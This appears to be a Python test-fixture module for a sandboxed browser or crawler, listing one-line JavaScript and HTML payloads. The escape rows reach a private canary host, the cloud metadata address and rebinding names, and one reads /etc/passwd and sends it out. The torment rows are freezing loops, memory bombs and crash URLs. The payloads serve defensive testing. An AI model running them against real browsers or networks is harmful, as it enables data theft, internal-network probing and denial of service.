"""Pages that try to get out of a browser, or to bring it to its knees; one row each.

In the scripts, ``INSIDE`` is ``http://`` and a private address with a canary's port, ``HOST`` the
same without the scheme, ``PORT`` that port, and ``UDP`` a port that counts packets.
"""

# ruff: noqa: E501 - a row is a row
from __future__ import annotations

ESCAPES = {
    # By every way that a script can ask for something
    "fetch": "fetch('INSIDE/fetch').catch(() => 0)",
    "fetch-no-cors": "fetch('INSIDE/no-cors', {mode: 'no-cors'}).catch(() => 0)",
    "fetch-post": "fetch('INSIDE/post', {method: 'POST', body: 'x', mode: 'no-cors'}).catch(() => 0)",
    "fetch-keepalive": "fetch('INSIDE/keep', {keepalive: true, mode: 'no-cors'}).catch(() => 0)",
    "xhr": "x = new XMLHttpRequest(); x.open('GET', 'INSIDE/xhr'); x.send()",
    "xhr-preflight": "y = new XMLHttpRequest(); y.open('PUT', 'INSIDE/put'); y.setRequestHeader('x-a', '1'); y.send()",
    "xhr-sync": "z = new XMLHttpRequest(); z.open('GET', 'INSIDE/sync', false); z.send()",
    "beacon": "navigator.sendBeacon('INSIDE/beacon', 'x')",
    "image": "new Image().src = 'INSIDE/image'",
    "event-source": "new EventSource('INSIDE/events')",
    "websocket": "new WebSocket('ws://HOST/socket')",
    "websocket-secure": "new WebSocket('wss://HOST/socket')",
    "webrtc-stun": "p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
    "webrtc-turn-tcp": "q = new RTCPeerConnection({iceTransportPolicy: 'relay', iceServers: [{urls: 'turn:HOST?transport=tcp', username: 'a', credential: 'b'}]}); q.createDataChannel('x'); q.createOffer().then(o => q.setLocalDescription(o))",
    "webrtc-of-a-frame": "f = document.createElement('iframe'); document.body.append(f); r = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: ['stun:127.0.0.1:UDP', 'turn:HOST?transport=tcp'], username: 'a', credential: 'b'}]}); r.createDataChannel('x'); r.createOffer().then(o => r.setLocalDescription(o))",
    "webtransport": "new WebTransport('https://127.0.0.1:UDP/')",
    "worker": "new Worker('INSIDE/worker.js')",
    "worker-of-a-blob": "new Worker(URL.createObjectURL(new Blob([\"fetch('INSIDE/blob', {mode: 'no-cors'}); new WebSocket('ws://HOST/blob'); importScripts('INSIDE/import.js')\"])))",
    "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('INSIDE/shared', {mode: 'no-cors'})\"])))",
    "service-worker": "navigator.serviceWorker.register('/worker.js')",
    "dynamic-import": "import('INSIDE/module.js').catch(() => 0)",
    "worklet": "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('INSIDE/worklet.js').catch(() => 0)",
    "background-fetch": "navigator.serviceWorker.ready.then(r => r.backgroundFetch.fetch('x', ['INSIDE/background']))",
    "media-element": "m = document.createElement('video'); m.src = 'INSIDE/film'; m.play().catch(() => 0)",
    "font": "new FontFace('f', \"url('INSIDE/font')\").load().catch(() => 0)",
    "form-post": "g = document.createElement('form'); g.method = 'post'; g.action = 'INSIDE/form'; g.target = '_blank'; document.body.append(g); g.submit()",
    "pop-up": "open('INSIDE/pop-up'); document.createElement('a').click()",
    "link-in-new-window": "a = document.createElement('a'); a.href = 'INSIDE/window'; a.target = '_blank'; document.body.append(a); a.click(); a.remove()",
    "link-with-ping": "b = document.createElement('a'); b.href = '#here'; b.ping = 'INSIDE/ping'; document.body.append(b); b.click(); b.remove()",
    "download-of-a-blob": "e = document.createElement('a'); e.href = URL.createObjectURL(new Blob(['x'])); e.download = 'x'; document.body.append(e); e.click(); e.remove()",
    "script-url": "location = 'javascript:fetch(\"INSIDE/javascript\", {mode: \"no-cors\"})'",
    "file-url": "fetch('file:///etc/passwd').then(r => r.text()).then(t => new Image().src = 'INSIDE/' + t).catch(() => 0)",
    "written-document": "w = document.createElement('iframe'); document.body.append(w); w.contentDocument.write('<script>fetch(\"INSIDE/written\", {mode: \"no-cors\"})</scr' + 'ipt>')",
    "frame-of-srcdoc": "s = document.createElement('iframe'); s.srcdoc = '<img src=INSIDE/srcdoc><script src=INSIDE/srcdoc.js></scr' + 'ipt>'; document.body.append(s)",
    "frame-of-data": "t = document.createElement('iframe'); t.src = 'data:text/html,<script>fetch(\"INSIDE/data\", {mode: \"no-cors\"}); new WebSocket(\"ws://HOST/data\")</scr' + 'ipt>'; document.body.append(t)",
    "frame-of-a-blob": "u = document.createElement('iframe'); u.src = URL.createObjectURL(new Blob(['<script>fetch(\"INSIDE/bf\", {mode: \"no-cors\"})</scr' + 'ipt>'], {type: 'text/html'})); document.body.append(u)",
    "reports": "new ReportingObserver(() => 0).observe(); document.body.insertAdjacentHTML('beforeend', '<meta http-equiv=Content-Security-Policy content=\"default-src none; report-uri INSIDE/report\">')",
    # By names and spellings
    "decimal": "fetch('http://2130706433:PORT/', {mode: 'no-cors'}).catch(() => 0)",
    "short": "fetch('http://127.1:PORT/', {mode: 'no-cors'}).catch(() => 0)",
    "hexadecimal": "fetch('http://0x7f000001:PORT/', {mode: 'no-cors'}).catch(() => 0)",
    "localhost": "fetch('http://localhost:PORT/', {mode: 'no-cors'}).catch(() => 0)",
    "below-localhost": "new WebSocket('ws://a.localhost:PORT/')",
    "unspecified": "fetch('http://0.0.0.0:PORT/', {mode: 'no-cors'}).catch(() => 0)",
    "ipv6": "fetch('http://[::1]:PORT/', {mode: 'no-cors'}).catch(() => 0)",
    "ipv6-socket": "new WebSocket('ws://[::1]:PORT/')",
    "ipv4-in-ipv6": "fetch('http://[::ffff:127.0.0.1]:PORT/', {mode: 'no-cors'}).catch(() => 0)",
    "metadata": "fetch('http://169.254.169.254/latest/', {mode: 'no-cors'}).catch(() => 0)",
    "name-for-inside": "fetch('http://inside.example:PORT/', {mode: 'no-cors'}).catch(() => 0)",
    "name-rebound": "for (let n = 0; n < 5; n++) fetch('http://rebound.example/' + n, {mode: 'no-cors'}).catch(() => 0)",
    "redirect-inside": "fetch('/redirect').catch(() => 0)",
    "script-redirect-inside": "h = document.createElement('script'); h.src = '/redirect'; document.body.append(h)",
    "frame-redirect-inside": "i = document.createElement('iframe'); i.src = '/redirect'; document.body.append(i)",
    "excluded-host": "fetch('http://excluded.evil.test/', {mode: 'no-cors'}).catch(() => 0)",
    "forbidden-by-robots": "fetch('/forbidden/data').catch(() => 0)",
    "tracker": "j = document.createElement('script'); j.src = 'http://www.google-analytics.com/analytics.js'; document.body.append(j)",
}  # fmt: skip

MARKUP = (
    "<link rel=stylesheet href=INSIDE/style><link rel=preload as=script href=INSIDE/preload>"
    "<link rel=prefetch href=INSIDE/prefetch><link rel=preconnect href=INSIDE/><link rel=dns-prefetch href=//inside.example>"
    "<link rel=prerender href=INSIDE/prerender><link rel=modulepreload href=INSIDE/modulepreload>"
    "<link rel=icon href=INSIDE/icon><link rel=manifest href=INSIDE/manifest>"
    '<script type=speculationrules>{"prefetch": [{"urls": ["INSIDE/speculate"]}], "prerender": [{"urls": ["INSIDE/prerender2"]}]}</script>'
    "<style>@import 'INSIDE/import'; body { background: url(INSIDE/background) } @font-face { font-family: f; src: url(INSIDE/face) }</style>"
    "<img src=INSIDE/img srcset='INSIDE/srcset 2x'><video src=INSIDE/video poster=INSIDE/poster><track src=INSIDE/track></video>"
    "<object data=INSIDE/object></object><embed src=INSIDE/embed><iframe src=INSIDE/iframe></iframe>"
    "<svg><image href=INSIDE/svg /><use href='INSIDE/use#a' /></svg><input type=image src=INSIDE/input>"
    "<script src=INSIDE/script></script><script type=module src=INSIDE/module></script>"
    '<script type=importmap>{"imports": {"a": "INSIDE/map"}}</script><body style="font-family: f">'
)
"""The same by markup alone: one row of its own."""

TORMENTS = {
    "alert-loop": "while (true) alert('again')",
    "prompt-loop": "setInterval(() => { prompt('x'); confirm('y') }, 0)",
    "leave-me-not": "onbeforeunload = () => 'stay'; location = '/elsewhere'",
    "print": "for (let n = 0; n < 50; n++) print()",
    "endless-loop": "while (true);",
    "endless-promises": "(function again() { Promise.resolve().then(again) })()",
    "never-at-rest": "setInterval(() => { document.body.append('x') }, 5)",
    "memory-of-objects": "a = []; while (true) a.push(new Array(1e5).fill({}))",
    "memory-of-buffers": "b = []; setInterval(() => { for (let n = 0; n < 4; n++) b.push(new Uint8Array(5e7).fill(7)) }, 0)",
    "memory-of-nodes": "setInterval(() => { document.body.append(...Array.from({length: 1e4}, () => document.createElement('p'))) }, 0)",
    "workers-without-end": "for (let n = 0; n < 8; n++) new Worker(URL.createObjectURL(new Blob(['while (true);'])))",
    "frames-without-end": "document.body.insertAdjacentHTML('beforeend', '<iframe src=/frames-without-end></iframe>'.repeat(20))",
    "pop-ups-without-end": "setInterval(() => { open('/x'); document.querySelector('a').target = '_blank'; document.querySelector('a').click() }, 1)",
    "reload": "location.reload()",
    "redirects-without-end": "location = '/redirects-without-end?' + Math.random()",
    "routes-without-end": "n = 0; setInterval(() => history.pushState({}, '', '/route/' + n++), 1)",
    "debugger": "debugger; debugger; setInterval(() => { debugger }, 1)",
    "slow-pattern": "/^(a+)+$/.test('a'.repeat(50) + 'b')",
    "requests-without-end": "n = 0; setInterval(() => fetch('/data?' + n++), 1)",
    "nothing-is-as-it-was": "JSON.stringify = Array.prototype.map = Array.prototype.push = Promise.prototype.then = Object.defineProperty = document.createElement = () => { throw 1 }; Object.prototype.toJSON = () => 'x'; document.querySelectorAll = null",
    "no-document": "document.documentElement.remove()",
    "huge-document": "document.body.textContent = 'x'.repeat(2e7)",
    "permissions": "navigator.geolocation.getCurrentPosition(() => 0); Notification.requestPermission(); navigator.mediaDevices.getUserMedia({video: true}); document.documentElement.requestFullscreen()",
    "crash": "location = 'chrome://crash'; location = 'chrome://settings'; location = 'file:///etc/passwd'",
    "storage": "try { while (true) localStorage.setItem(Math.random(), 'x'.repeat(1e5)) } catch {}; caches.open('x')",
    "download": "d = document.createElement('a'); d.href = 'INSIDE/download'; d.download = 'x'; document.body.append(d); d.click(); d.remove()",
    "closed": "close(); window.close()",
}  # fmt: skip

OF_WINDOWS = (
    "alert-loop",
    "prompt-loop",
    "leave-me-not",
    "print",
    "endless-loop",
    "pop-ups-without-end",
    "debugger",
    "permissions",
    "crash",
    "download",
    "closed",
)
"""Those that a browser with windows may take otherwise than one without."""  # fmt: skip
